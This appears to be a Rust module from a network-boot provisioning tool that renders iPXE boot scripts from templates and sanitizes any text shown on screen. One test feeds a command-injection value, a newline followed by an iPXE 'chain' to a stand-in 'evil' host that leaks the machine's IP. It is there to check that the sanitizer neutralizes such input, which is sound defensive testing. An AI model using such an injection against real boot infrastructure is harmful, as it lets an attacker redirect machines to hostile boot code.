use std::sync::LazyLock;

use minijinja::{Environment, UndefinedBehavior, context, syntax::SyntaxConfig};

use muster_facts::MacAddr;

/// What iPXE is told to do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BootScript<'a> {
    /// Load the collection image and report.
    Collect {
        /// `http://address:port` of the boot listener, as this machine reaches it.
        base: &'a str,
        /// The boot token: in the script and nowhere else.
        token: &'a str,
        /// The interface that boots.
        mac: MacAddr,
        /// Where to ask again when loading fails: a new script with a new token.
        again: &'a str,
        /// Further kernel options from the settings.
        kernel_options: &'a str,
    },
    /// Start an installer.
    Install {
        /// What is installed, for the person at the screen.
        title: &'a str,
        /// Where the kernel is.
        kernel: &'a str,
        /// Where its initrds are.
        initrds: &'a [String],
        /// The kernel's command line.
        line: &'a str,
        /// Where to ask again when loading fails.
        again: &'a str,
    },
    /// Start the installed system; Muster has nothing to do here.
    Local {
        /// Why, for the person at the screen.
        why: &'a str,
    },
    /// Nothing can be done now: say so, wait, and ask again.
    Hold {
        /// Where to ask again: this machine's own script address.
        again: &'a str,
        /// Why, for the person at the screen.
        why: &'a str,
        /// What to do about it.
        advice: &'a str,
    },
}

static TEMPLATES: LazyLock<Environment<'static>> = LazyLock::new(|| {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    if let Ok(syntax) = SyntaxConfig::builder().keep_trailing_newline(true).build() {
        env.set_syntax(syntax);
    }
    env.add_filter("ipxe", |text: &str| ipxe_text(text));
    env
});

const COLLECT: &str = include_str!("../../templates/boot/collect.ipxe");
const INSTALL: &str = include_str!("../../templates/boot/install.ipxe");
const LOCAL: &str = include_str!("../../templates/boot/local.ipxe");
const HOLD: &str = include_str!("../../templates/boot/hold.ipxe");

/// The script as iPXE reads it (<https://ipxe.org/scripting>): ASCII, one command a line.
///
/// # Errors
/// When a shipped template does not render: a fault of the build, told and never sent to a machine.
pub fn render_boot_script(script: &BootScript<'_>) -> Result<String, minijinja::Error> {
    match *script {
        BootScript::Collect {
            base,
            token,
            mac,
            again,
            kernel_options,
        } => TEMPLATES.render_named_str(
            "boot/collect.ipxe",
            COLLECT,
            context! {
                base, token, again, kernel_options,
                bootif => format!("01-{}", mac.to_string().replace(':', "-")),
            },
        ),
        BootScript::Install {
            title,
            kernel,
            initrds,
            line,
            again,
        } => {
            let names: Vec<String> = (0..initrds.len()).map(|number| format!("initrd{number}")).collect();
            TEMPLATES.render_named_str(
                "boot/install.ipxe",
                INSTALL,
                context! { title, kernel, initrds => initrds.to_vec(), names, line, again },
            )
        }
        BootScript::Local { why } => TEMPLATES.render_named_str("boot/local.ipxe", LOCAL, context! { why }),
        BootScript::Hold { again, why, advice } => {
            TEMPLATES.render_named_str("boot/hold.ipxe", HOLD, context! { again, why, advice })
        }
    }
}

/// Text that iPXE shows and does not interpret: printable ASCII without `$`, `&`, `|` and `#`.
fn ipxe_text(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            ' '..='~' if !matches!(c, '$' | '&' | '|' | '#') => c,
            _ => '?',
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn collect_carries_token_server_and_interface() {
        let script = render_boot_script(&BootScript::Collect {
            base: "http://10.77.0.1:8081",
            token: "tok_en-1",
            mac: MacAddr([0x52, 0x54, 0, 0x77, 0, 1]),
            again: "http://10.77.0.1:8081/boot/ipxe?mac=52:54:00:77:00:01",
            kernel_options: "console=ttyS0",
        })
        .unwrap();
        insta::assert_snapshot!(script);
    }

    #[test]
    fn a_reason_cannot_become_a_command() {
        let script = render_boot_script(&BootScript::Hold {
            again: "http://10.77.0.1:8081/boot/ipxe?mac=52:54:00:77:00:01",
            why: "no image\nchain http://evil ${net0/ip} || reboot",
            advice: "cargo xtask image",
        })
        .unwrap();
        insta::assert_snapshot!(script);
    }

    #[test]
    fn local_boot_knows_both_firmwares() {
        let script = render_boot_script(&BootScript::Local {
            why: "settings say boot.unknown = local",
        })
        .unwrap();
        insta::assert_snapshot!(script);
    }
}
